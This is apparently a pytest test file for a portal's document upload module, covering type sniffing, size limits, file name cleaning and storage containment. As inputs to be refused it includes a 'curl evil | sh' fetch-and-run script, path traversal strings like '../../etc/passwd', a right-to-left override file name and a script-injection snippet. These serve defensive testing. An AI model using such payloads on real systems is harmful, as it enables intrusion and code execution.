"""Documents without GraphQL: what a file is (sniffed, not trusted), the size limit read
in chunks, cleaned file names, the local storage (atomic, no way out of its root) and
that a file never outlives a failed transaction."""

from __future__ import annotations

import io
import os
import uuid
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.exc import IntegrityError
from sqlalchemy.ext.asyncio import AsyncSession

from db import models
from db.demo import demo_pdf
from gql.domain import documents
from gql.domain.audit import Origin
from gql.domain.documents import ALLOWED, LocalStorage, UploadRefused
from gql.domain.errors import InvalidInput
from gql.domain.notifications import Notifier
from tests import factories
from tests.conftest import ACTORS

PDF = demo_pdf("Zählerfoto")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(32)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(32)
TIFF_LE = b"II*\x00\x08\x00\x00\x00" + bytes(32)
TIFF_BE = b"MM\x00*\x00\x00\x00\x08" + bytes(32)
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(32)

NOTIFY = Notifier(sender="portal@example.org", staff_app_url="http://staff.example")


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "mime"),
    [
        (PDF, "application/pdf"),
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (TIFF_LE, "image/tiff"),
        (TIFF_BE, "image/tiff"),
        (HEIC, "image/heic"),
    ],
    ids=["pdf", "png", "jpeg", "tiff-le", "tiff-be", "heic"],
)
def test_allowed_types_are_recognised_by_content(data: bytes, mime: str) -> None:
    assert documents.check_type(data) is ALLOWED[mime]


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(100), "application/x-msdownload"),
        (b"MZ", "application/x-msdownload"),
        (b"\x7fELF\x02\x01\x01" + bytes(100), "application/x-executable"),
        (b"\x7fELF\x02", "application/x-executable"),  # too short for filetype alone
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(40), "application/x-mach-binary"),
        (b"\xca\xfe\xba\xbe" + bytes(40), "application/x-mach-binary"),
        (b"#!/bin/sh\ncurl evil | sh\n", "text/x-shellscript"),
        (b"\x00asm\x01\x00\x00\x00" + bytes(8), "application/wasm"),
    ],
    ids=["pe", "pe-stub", "elf", "elf-stub", "mach-o", "mach-o-universal", "script", "wasm"],
)
def test_executables_are_refused_as_such_naming_the_detected_type(
    data: bytes, detected: str
) -> None:
    with pytest.raises(UploadRefused) as refused:
        documents.check_type(data)
    assert refused.value.reason == UploadRefused.EXECUTABLE
    assert refused.value.detected_type == detected
    assert detected in refused.value.message
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (_docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"GIF89a" + bytes(20), "image/gif"),
        (b"%!PS-Adobe-3.0\n", "application/postscript"),
        (b"<html><script>alert(1)</script></html>", None),
        (b"Sehr geehrte Damen und Herren", None),
        (b" %PDF-1.4 (not at the start)", None),
    ],
    ids=["docx", "gif", "postscript", "html", "text", "pdf-not-first"],
)
def test_other_types_are_refused_naming_what_they_are(data: bytes, detected: str | None) -> None:
    with pytest.raises(UploadRefused) as refused:
        documents.check_type(data)
    assert refused.value.reason == UploadRefused.TYPE_NOT_ALLOWED
    assert refused.value.detected_type == detected
    assert "PDF, PNG, JPEG, TIFF or HEIC" in refused.value.message


class Chunks:
    """An upload that hands out `total` bytes in chunks and counts the reads."""

    def __init__(self, total: int | None, chunk: int = 1000) -> None:
        self.left = total
        self.chunk = chunk
        self.reads = 0

    async def read(self, size: int = -1, /) -> bytes:
        self.reads += 1
        if self.left is None:  # endless
            return b"%" * self.chunk
        part = min(self.left, self.chunk, size if size >= 0 else self.left)
        self.left -= part
        return b"%" * part


async def test_exactly_the_limit_is_read_whole() -> None:
    assert len(await documents.read_limited(Chunks(5000), 5000)) == 5000


async def test_one_byte_over_the_limit_is_refused() -> None:
    with pytest.raises(UploadRefused) as refused:
        await documents.read_limited(Chunks(5001), 5000)
    assert refused.value.reason == UploadRefused.FILE_TOO_LARGE


async def test_an_endless_upload_is_given_up_right_after_the_limit() -> None:
    source = Chunks(None, chunk=1000)
    with pytest.raises(UploadRefused):
        await documents.read_limited(source, 10_000)
    assert source.reads == 11


async def test_an_empty_file_is_refused() -> None:
    with pytest.raises(UploadRefused) as refused:
        await documents.read_limited(Chunks(0), 5000)
    assert refused.value.reason == UploadRefused.EMPTY_FILE


async def test_the_size_limit_is_named_in_mebibytes() -> None:
    with pytest.raises(UploadRefused, match="at most 10 MiB"):
        await documents.read_limited(Chunks(None, chunk=documents.CHUNK), 10 * documents.MIB)


PDF_TYPE = ALLOWED["application/pdf"]
PNG_TYPE = ALLOWED["image/png"]
JPEG_TYPE = ALLOWED["image/jpeg"]


@pytest.mark.parametrize(
    ("raw", "kind", "cleaned"),
    [
        ("Rechnung 2025.pdf", PDF_TYPE, "Rechnung 2025.pdf"),
        ("scan.PDF", PDF_TYPE, "scan.pdf"),
        ("C:\\Users\\anna\\Desktop\\rechnung.pdf", PDF_TYPE, "rechnung.pdf"),
        ("../../etc/passwd", PDF_TYPE, "passwd.pdf"),
        ("zeile1\nzeile2\r\t.pdf", PDF_TYPE, "zeile1 zeile2.pdf"),
        ("rechnung\u202egpj.exe", JPEG_TYPE, "rechnung gpj.jpg"),  # right-to-left override
        ("rechnung.pdf", PNG_TYPE, "rechnung.png"),  # the content decides the extension
        ("foto.jpeg", JPEG_TYPE, "foto.jpeg"),
        ("Zählerstand 12.03", PNG_TYPE, "Zählerstand 12.03.png"),
        ("Za\u0308hler.pdf", PDF_TYPE, "Zähler.pdf"),  # NFC
        ("", PDF_TYPE, "Dokument.pdf"),
        (None, PDF_TYPE, "Dokument.pdf"),
        ("...", PDF_TYPE, "Dokument.pdf"),
        (".bashrc", PDF_TYPE, "bashrc.pdf"),
    ],
)
def test_file_names_are_cleaned(raw: str | None, kind: documents.FileType, cleaned: str) -> None:
    assert documents.clean_file_name(raw, kind) == cleaned


def test_long_file_names_keep_their_extension_within_255_characters() -> None:
    name = documents.clean_file_name("ä" * 400 + ".pdf", PDF_TYPE)
    assert len(name) == 255
    assert name.endswith("ää.pdf")


async def test_local_storage_round_trip_and_delete(tmp_path: Path) -> None:
    storage = LocalStorage(tmp_path)
    key = documents.new_key(uuid.uuid4())
    await storage.put(key, PDF)
    assert b"".join([chunk async for chunk in await storage.open(key)]) == PDF
    await storage.delete(key)
    await storage.delete(key)  # gone already: fine
    with pytest.raises(documents.StoredFileMissing):
        await storage.open(key)


async def test_local_storage_writes_atomically(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    storage = LocalStorage(tmp_path)
    key = "org/file"
    await storage.put(key, b"old")

    def crash(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(OSError, match="disk full"):
        await storage.put(key, b"new")
    assert storage.path(key).read_bytes() == b"old"
    assert sorted(p.name for p in (tmp_path / "org").iterdir()) == ["file"]  # no temp file


@pytest.mark.parametrize(
    "key",
    ["../outside", "/etc/passwd", "a/../../b", "a/./b", ".hidden", "a//b", "", "a/", "a\\b"],
)
def test_local_storage_keys_can_not_leave_the_root(tmp_path: Path, key: str) -> None:
    with pytest.raises(ValueError, match="not a storage key"):
        LocalStorage(tmp_path / "root").path(key)


def test_a_symlink_out_of_the_root_is_no_way_out(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (root / "link").symlink_to(tmp_path)
    with pytest.raises(ValueError, match="not a storage key"):
        LocalStorage(root).path("link/secret")


async def _upload(
    session: AsyncSession,
    storage: documents.DocumentStorage,
    file_name: str = "brief.pdf",
    document_type: models.DocumentType = models.DocumentType.LETTER,
) -> models.Document:
    """The customer uploads PDF, for no contact, contract or order in particular."""
    return await documents.upload(
        session,
        ACTORS["customer"],
        storage,
        data=PDF,
        file_name=file_name,
        type=document_type,
        contact_id=None,
        contract_id=None,
        order_id=None,
        origin=Origin(),
        notify=NOTIFY,
    )


async def test_a_failed_transaction_leaves_no_file(session: AsyncSession, tmp_path: Path) -> None:
    storage = LocalStorage(tmp_path)
    keys = []

    async def transaction() -> None:
        async with documents.undo_on_failure(storage) as tracked:
            document = await _upload(session, tracked)
            keys.append(document.storage_key)
            assert storage.path(document.storage_key).exists()
            # Something later in the same transaction fails in the database.
            await factories.make_document(
                session,
                document.contact_id,
                document.organization_id,
                name="x",
                type=models.DocumentType.OTHER,
                size_bytes=-1,
                storage_key="x",
            )

    with pytest.raises(IntegrityError):
        await transaction()
    await session.rollback()
    assert len(keys) == 1
    assert not storage.path(keys[0]).exists()


class BrokenStorage(LocalStorage):
    async def put(self, key: str, data: bytes) -> None:
        raise OSError("storage unreachable")


async def test_a_failed_store_leaves_no_row(session: AsyncSession, tmp_path: Path) -> None:
    before = await session.scalar(sa.select(sa.func.count()).select_from(models.Document))
    with pytest.raises(OSError, match="unreachable"):
        async with session.begin_nested():
            await _upload(session, BrokenStorage(tmp_path))
    after = await session.scalar(sa.select(sa.func.count()).select_from(models.Document))
    assert after == before


async def test_customers_upload_to_their_own_contact_only_their_kinds(
    session: AsyncSession, tmp_path: Path
) -> None:
    storage = LocalStorage(tmp_path)
    document = await _upload(session, storage)
    customer = ACTORS["customer"]
    assert (document.contact_id, document.uploaded_by_id) == (
        customer.contact_id,
        customer.subject_id,
    )
    assert document.storage_key.startswith(f"{customer.organization_id}/")
    assert "brief" not in document.storage_key
    with pytest.raises(InvalidInput) as refused:
        await _upload(session, storage, "x.pdf", models.DocumentType.INVOICE)
    assert refused.value.field == "type"
